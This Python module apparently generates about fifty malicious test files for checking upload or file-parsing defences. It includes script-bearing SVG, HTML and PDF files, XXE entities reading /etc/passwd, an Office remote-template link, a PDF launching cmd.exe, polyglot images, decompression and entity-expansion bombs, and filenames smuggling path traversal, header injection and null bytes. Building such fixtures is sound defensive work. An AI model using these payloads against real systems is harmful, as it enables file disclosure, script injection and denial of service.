"""Fifty files that bite: they run something, swell, lie about what they are, or read in two ways."""

import gzip
import io
import struct
import tarfile
import zipfile
import zlib

SCRIPT = b"<script>alert(1)</script>"
PNG = b"\x89PNG\r\n\x1a\n"
JPEG = b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0"
MANY = 400_000_000  # bytes that a bomb swells to


def _chunk(kind: bytes, data: bytes) -> bytes:
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


def _png(width: int, height: int, *more: bytes, end: bytes = b"") -> bytes:
    """A picture that says it is as large as this; its data is a line of zeros."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(bytes(min(height, 40_000) * (3 * min(width, 3000) + 1)), 9)
    chunks = _chunk(b"IHDR", head), *more, _chunk(b"IDAT", data), _chunk(b"IEND", b"")
    return PNG + b"".join(chunks) + end


def _zip(*parts: tuple[str, bytes | int], first: bytes = b"") -> bytes:
    """A package; a number instead of bytes is so many zeros."""
    paper = io.BytesIO()
    paper.write(first)
    with zipfile.ZipFile(paper, "w", zipfile.ZIP_DEFLATED) as file:
        for name, data in parts:
            file.writestr(name, bytes(data) if isinstance(data, int) else data)
    return paper.getvalue()


_TYPES = (
    "[Content_Types].xml",
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
)


def _office(*parts: tuple[str, bytes | int]) -> bytes:
    return _zip(_TYPES, *parts)


def _odt(*parts: tuple[str, bytes | int]) -> bytes:
    paper = io.BytesIO()
    with zipfile.ZipFile(paper, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr(zipfile.ZipInfo("mimetype"), b"application/vnd.oasis.opendocument.text")
        for name, data in parts:
            file.writestr(name, bytes(data) if isinstance(data, int) else data)
    return paper.getvalue()


def _pdf(objects: str, end: bytes = b"") -> bytes:
    return f"%PDF-1.7\n{objects}\ntrailer<</Root 1 0 R>>\n%%EOF\n".encode() + end


def _laughs() -> bytes:
    """Entities inside entities."""
    inside = "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    return f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha">{inside}]><a>&j;</a>'.encode()


def _link() -> bytes:
    """An archive whose one member points out of it."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as file:
        member = tarfile.TarInfo("a")
        member.type, member.linkname = tarfile.SYMTYPE, "/etc/passwd"
        file.addfile(member)
    return out.getvalue()


def _overlapping() -> bytes:
    """Two entries over the same bytes."""
    data = _office(("word/document.xml", 2_000_000))
    at = data.rindex(b"PK\x01\x02")
    tail = data[at:]
    return data[:at] + tail[: tail.index(b"PK\x05\x06")] * 200 + tail[tail.index(b"PK\x05\x06") :]


OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
_EVAL = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
_RELATIONS = "word/_rels/document.xml.rels"
_TEMPLATE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" TargetMode="External" Target="http://192.0.2.1/a.dotm" Type="http://'
    b'schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)


def _scripts() -> list[tuple[str, bytes]]:
    return [
        ("a.svg", _EVAL),
        ("a.svgz", gzip.compress(_EVAL)),
        ("a.html", b"<!doctype html>" + SCRIPT),
        ("b.html", ("\ufeff<html>" + SCRIPT.decode()).encode("utf-16")),
        ("c.html", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
        ("a.xht", b'<html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>"),
        ("a.js", b"alert(1)"),
        ("a.mht", b"From: x\nContent-Type: multipart/related\n\n" + SCRIPT),
        ("a.url", b"[InternetShortcut]\nURL=javascript:alert(1)"),
        ("a.hta", b"<hta:application>" + SCRIPT),
        ("a.exe", b"MZ" + bytes(300)),
        ("a.desktop", b"[Desktop Entry]\nType=Application\nExec=sh -c 'alert(1)'"),
        ("a.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(80)),
        (
            "a.jar",
            _zip(("META-INF/MANIFEST.MF", b"Main-Class: A\n"), ("A.class", b"\xca\xfe\xba\xbe")),
        ),
        ("a.docm", _office(("word/vbaProject.bin", 1000), ("word/document.xml", b"<a/>"))),
        ("a.xlsm", _office(("xl/vbaProject.bin", 1000), ("xl/workbook.xml", b"<a/>"))),
        (
            "a.docx",
            _office(("word/document.xml", b"<a/>"), (_RELATIONS, _TEMPLATE)),
        ),
        ("b.docx", _office(("word/document.xml", OUTSIDE), ("_rels/.rels", OUTSIDE))),
        ("c.docx", _office(("word/document.xml", b"<a/>"), ("word/media/a.svg", _EVAL))),
        ("a.odt", _odt(("content.xml", OUTSIDE), ("Basic/Standard/a.xml", SCRIPT))),
        ("a.pdf", _pdf("1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj")),
        ("b.pdf", _pdf("1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj")),
    ]


def _two_ways() -> list[tuple[str, bytes]]:
    """What one reader takes for a picture and another for a page, a program or an archive."""
    return [
        ("a.gif", b"GIF89a/*" + SCRIPT + b"*/=1;"),
        ("a.jpg", JPEG + b"\xff\xfe\0\x40" + SCRIPT + bytes(40) + b"\xff\xd9"),
        ("b.jpg", JPEG + b"\xff\xd9" + _zip(("a.html", SCRIPT))),
        ("a.png", _png(1, 1, _chunk(b"tEXt", b"a\0" + SCRIPT))),
        ("b.png", _png(1, 1, end=SCRIPT)),
        ("c.png", _png(1, 1, end=_zip(("a.class", b"\xca\xfe\xba\xbe")))),
        ("a.bmp", b"BM" + SCRIPT),
        ("a.webp", b"RIFF\xff\xff\xff\x7fWEBPVP8 " + SCRIPT + bytes(20)),
        ("c.pdf", b"<html>" + SCRIPT + b"<!--\n" + _pdf("1 0 obj<<>>endobj")),
        ("d.pdf", _pdf("1 0 obj<<>>endobj", _zip(("a.html", SCRIPT)))),
        ("d.docx", _zip(_TYPES, ("word/document.xml", b"<a/>"), first=b"%PDF-1.4\n" + SCRIPT)),
        ("a.heic", b"\0\0\0\x18ftypheic" + SCRIPT + b"\xff" * 200),
        ("a.mp4", b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + SCRIPT),
        ("a.jpg.html", JPEG + bytes(50)),
    ]


_HUGE = (
    "1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Kids[3 0 R]/Count 1>>endobj "
    "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 900000 900000]>>endobj"
)


def _swelling() -> list[tuple[str, bytes]]:
    return [
        ("d.png", _png(60_000, 60_000)),
        ("e.png", _png(12_000, 11_000)),
        ("e.docx", _office(("word/document.xml", MANY))),
        ("a.xlsx", _office(("xl/workbook.xml", MANY))),
        ("b.odt", _odt(("content.xml", MANY))),
        ("f.docx", _overlapping()),
        ("g.docx", _office(("word/document.xml", _laughs()))),
        ("a.xml", _laughs()),
        ("a.zip", _zip(("a.zip", _zip(("a", MANY // 2))))),
        ("a.gz", gzip.compress(bytes(50_000_000))),
        ("e.pdf", _pdf("1 0 obj<</Kids[1 0 R]>>endobj\n" * 3000)),
        ("f.pdf", _pdf(_HUGE)),
    ]


def _lying() -> list[tuple[str, bytes]]:
    """Names that want to be something else."""
    return [
        ("../../a.jpg", JPEG + SCRIPT),
        ("..\\..\\b.exe", b"MZ"),
        ("h.docx", _office(("../../evil.xml", 100))),
        ("a.tar", _link()),
        ("a.txt\r\nX-Evil: 1", b"text"),
        ("\u202egpj.exe", b"MZ"),
        ("a" * 400 + ".jpg", b"\xff\xd8"),
        ("a.txt\0.html", SCRIPT),
    ]


def biting() -> list[tuple[str, bytes]]:
    """(name, bytes) of each."""
    return [*_scripts(), *_two_ways(), *_swelling(), *_lying()]
